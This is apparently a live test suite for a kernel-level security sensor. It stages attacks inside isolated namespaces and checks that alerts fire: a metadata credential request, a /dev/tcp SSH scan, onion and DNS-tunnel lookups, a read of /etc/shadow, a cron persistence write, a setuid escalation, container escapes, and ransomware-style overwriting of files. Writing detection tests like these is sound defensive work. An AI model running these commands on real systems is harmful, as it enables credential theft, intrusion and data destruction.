/**
 * What programs do to addresses, files and accounts, run for real under the kernel sensor. Addresses are those of
 * network namespaces that the test makes; files that matter lie in mount namespaces of its own.
 */
import { execFile, execFileSync, spawnSync, type SpawnSyncOptions } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel, startWatch, type Watch } from '../live/kernel.ts';

const behaviours = ['bad-peer', 'container-escape', 'credential-read', 'mass-change', 'metadata-access', 'persistence-write', 'privilege-jump', 'scan-fan-out'];

describe.skipIf(await lacksKernel())('net, files and accounts, live', () => {
  let watch: Watch;
  let folder: string;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'moat-net-'));
    chmodSync(folder, 0o755);
    watch = await startWatch({ behaviours });
  });
  afterAll(async () => {
    await watch?.end();
    rmSync(folder, { recursive: true, force: true });
  });

  /** A copy of a program where honest ones do not lie. */
  function planted(program: string, name = program.slice(program.lastIndexOf('/') + 1)): string {
    const path = join(folder, name);
    copyFileSync(program, path);
    chmodSync(path, 0o755);
    return path;
  }

  /** Runs a script of the shell in a network namespace of its own in which all of these networks are the machine itself. */
  function inNetwork(networks: readonly string[], script: string, ...more: string[]): void {
    const routes = networks.map((network) => `ip route add local ${network} dev lo`).join('\n');
    execFileSync('unshare', ['--net', 'sh', '-c', `ip link set lo up\n${routes}\n${script}`, 'sh', ...more], { timeout: 20_000, stdio: 'ignore' });
  }

  /** One that names a program or file of this test: others may be at work on the machine. */
  const alertOf = (id: string, level: string, named = folder) => watch.waitFor((one) => one.rule_id === `behaviour.${id}` && one.level === level && JSON.stringify(one).includes(named), `of ${id} at ${level} about ${named}`);

  it('a planted program asks the metadata service for credentials', async () => {
    const server = `require('http').createServer((q, a) => { a.end('{}'); }).listen(80, '169.254.169.254', () => {
      require('child_process').spawn(process.argv[1], ['-s', 'http://169.254.169.254/latest/meta-data/ram/security-credentials/role'], { stdio: 'ignore' }).on('exit', () => process.exit()); });`;
    inNetwork(['169.254.169.254/32'], 'exec "$1" -e "$2" "$3"', process.execPath, server, planted('/usr/bin/curl'));
    expect((await alertOf('metadata-access', 'critical')).count).toBeGreaterThan(0);
  });

  it('a planted shell knocks at SSH of a whole network', async () => {
    inNetwork(['198.51.100.0/24'], 'exec "$1" -c \'for i in {1..60}; do (: > /dev/tcp/198.51.100.$i/22) 2>/dev/null; done; true\'', planted('/bin/bash'));
    expect((await alertOf('scan-fan-out', 'critical')).count).toBeGreaterThan(0);
  });

  it('names of the dark web and a tunnel through DNS', async () => {
    // Questions as they go over the wire; nobody answers.
    const ask = `const socket = require('dgram').createSocket('udp4');
      const question = (name) => Buffer.concat([Buffer.from([1, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...name.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]), Buffer.from([0, 0, 16, 0, 1])]);
      const names = ['abcdefghij234567.onion', ...Array.from({ length: 110 }, (_, i) => require('crypto').createHash('sha256').update(String(i)).digest('hex').slice(0, 60) + '.t.example.net')];
      socket.on('error', () => undefined);
      (async () => { for (const name of names) { await new Promise((done) => socket.send(question(name), 53, '192.0.2.53', done)); await new Promise((done) => setTimeout(done, 5)); } socket.close(); })();`;
    inNetwork(['192.0.2.0/24'], 'exec "$1" -e "$2"', process.execPath, ask);
    await alertOf('bad-peer', 'high', 'abcdefghij234567.onion');
    await alertOf('bad-peer', 'medium', 'example.net');
  });

  it('a planted tor joins its network', async () => {
    inNetwork(['203.0.113.0/24'], '"$1" -c ": > /dev/tcp/203.0.113.8/9001" 2>/dev/null; true', planted('/bin/bash', 'tor'));
    await alertOf('bad-peer', 'critical');
  });

  it('a planted program reads the password hashes', async () => {
    execFileSync(planted('/bin/cat'), ['/etc/shadow'], { stdio: 'ignore' });
    await alertOf('credential-read', 'critical');
  });

  it('a planted program writes a job, in a mount namespace of its own', async () => {
    writeFileSync(join(folder, 'job'), '# nothing\n');
    execFileSync('unshare', ['--mount', '--propagation', 'private', 'sh', '-c', 'mount -t tmpfs t /etc/cron.d && exec "$1" "$2" /etc/cron.d/update', 'sh', planted('/bin/cp'), join(folder, 'job')], { stdio: 'ignore' });
    await alertOf('persistence-write', 'critical');
  });

  it('somebody runs a setuid file that no package owns', async () => {
    const program = planted('/usr/bin/id', 'helper-x');
    chmodSync(program, 0o4755);
    const options: SpawnSyncOptions = { uid: 65_534, gid: 65_534, encoding: 'utf8' };
    // A file system without setuid would make this prove nothing.
    expect(String(spawnSync(program, ['-u'], options).stdout).trim()).toBe('0');
    await alertOf('privilege-jump', 'critical');
  });

  it('a process in a namespace of its own goes for the release agent and the host\'s namespaces', async () => {
    mkdirSync(join(folder, 'cg'));
    execFileSync('unshare', ['--user', '--map-root-user', '--pid', '--mount', '--fork', 'sh', '-c', ': > "$1/cg/release_agent"; nsenter -t 1 -m true; true', 'sh', folder], { stdio: 'ignore' });
    const alert = await alertOf('container-escape', 'critical');
    expect(JSON.stringify(alert)).toMatch(/release_agent|nsenter/);
  });

  it('a planted program calls the socket of a container runtime by another name', async () => {
    const server = createServer((socket) => { socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}'); });
    await new Promise<void>((resolve) => { server.listen(join(folder, 'docker.sock'), resolve); });
    symlinkSync('docker.sock', join(folder, 'innocent'));
    try {
      await promisify(execFile)(planted('/usr/bin/curl', 'poll'), ['-s', '--unix-socket', join(folder, 'innocent'), 'http://localhost/containers/json']);
      await alertOf('container-escape', 'critical', join(folder, 'docker.sock'));
    } finally { server.close(); }
  });

  it('a planted program encrypts tables in place, names kept', async () => {
    const files = Array.from({ length: 20 }, (_, i) => join(folder, `table${i}.csv`));
    for (const file of files) writeFileSync(file, 'name,address,amount\n'.repeat(400));
    const code = 'import os, sys, time\nfor path in sys.argv[1:]:\n  f = open(path, "r+b"); n = len(f.read()); f.seek(0); f.write(os.urandom(n)); f.close(); time.sleep(0.1)';
    await promisify(execFile)(planted('/usr/bin/python3', 'tables'), ['-c', code, ...files]);
    const alert = await alertOf('mass-change', 'critical', 'table');
    expect((alert as unknown as { summary: string }).summary).toContain('turned into noise');
    expect(alert.count).toBeLessThan(20);
  });
});
